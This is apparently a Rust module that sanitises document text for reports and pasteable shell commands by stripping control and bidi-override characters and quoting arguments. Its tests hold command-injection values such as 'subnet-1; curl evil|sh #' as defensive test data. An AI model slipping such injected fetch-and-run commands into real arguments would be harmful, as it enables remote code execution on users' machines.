//! Words out of documents, made fit for sentences, commands and reports.

use std::borrow::Cow;

/// The longest word that a sentence quotes.
const LONGEST: usize = 120;

/// Whether a character could forge a line of a report, or turn the direction of writing.
pub fn harmful(c: char) -> bool {
    c.is_control() || matches!(c, '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A word from a document, for a sentence.
pub fn shown(text: &str) -> String {
    let word = text.as_bytes();
    if word.len() <= LONGEST && word.iter().all(|byte| byte.is_ascii() && !byte.is_ascii_control()) {
        return text.to_owned();
    }
    text.chars().filter(|c| !harmful(*c)).take(LONGEST).collect()
}

/// A text for people, in which nothing harmful is left.
pub fn plain(text: &str) -> String {
    text.chars().map(|c| if harmful(c) { char::REPLACEMENT_CHARACTER } else { c }).collect()
}

/// Prose in lines of at most `width` characters that end at word boundaries, where the first begins in this column.
pub fn wrap(text: &str, column: usize, width: usize) -> Vec<String> {
    let mut lines: Vec<String> = Vec::new();
    for word in text.split(' ') {
        match lines.last_mut() {
            Some(line) if column + line.chars().count() + 1 + word.chars().count() <= width => {
                line.push(' ');
                line.push_str(word);
            }
            _ => lines.push(word.to_owned()),
        }
    }
    lines
}

/// A word from a document, as an argument of a command that people may paste: quoted where a shell could read more
/// than a word in it.
pub fn argument(text: &str) -> String {
    let word = shown(text);
    if is_one_word(&word) { word } else { format!("'{}'", word.replace('\'', "")) }
}

/// The same for an argument that means nothing where it is cut, such as a document.
pub fn whole_argument(text: &str) -> String {
    let word: String = text.chars().filter(|c| !harmful(*c)).collect();
    if is_one_word(&word) { word } else { format!("'{}'", word.replace('\'', "'\\''")) }
}

/// Whether every shell reads it as the one word that it is.
fn is_one_word(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_alphanumeric() || b":/_.,=@+-".contains(&b))
}

/// The text of a policy without its URL encoding, if it has one; none where what is decoded is no text. IAM encodes in
/// its answers and not in requests; a `+` stands for itself, and what does not begin as an encoded object or list is
/// not encoded.
pub(crate) fn url_decoded(text: String) -> Option<String> {
    let encoded = |start: &str| text.get(..3).is_some_and(|first| first.eq_ignore_ascii_case(start));
    if !encoded("%7B") && !encoded("%5B") {
        return Some(text);
    }
    percent_encoding::percent_decode_str(&text).decode_utf8().ok().map(Cow::into_owned)
}

/// Where a part of a text begins, in bytes; none where it is not a part of this very text but a copy of some.
pub fn offset_of(part: &str, text: &str) -> Option<usize> {
    let offset = part.as_ptr().addr().checked_sub(text.as_ptr().addr())?;
    (offset + part.len() <= text.len()).then_some(offset)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_part_is_found_by_where_it_lies_and_a_copy_is_none() {
        let text = "aba".to_owned();
        assert_eq!(offset_of(&text[2..], &text), Some(2));
        assert_eq!(offset_of(&text, &text[1..]), None);
        assert_eq!(offset_of(&text.clone(), &text), None);
    }

    #[test]
    fn a_word_can_neither_forge_a_line_nor_a_command() {
        assert_eq!(shown("a\n  fixed: all\u{202e}"), "a  fixed: all");
        assert_eq!(argument("subnet-1"), "subnet-1");
        assert_eq!(argument("subnet-1; curl evil|sh #"), "'subnet-1; curl evil|sh #'");
        assert_eq!(argument("a'b"), "'ab'");
        assert_eq!(whole_argument("a'; curl evil|sh #\n"), "'a'\\''; curl evil|sh #'");
        assert_eq!(whole_argument(&"s".repeat(500)).len(), 500);
        assert_eq!(plain("a\nb"), "a\u{fffd}b");
    }
}
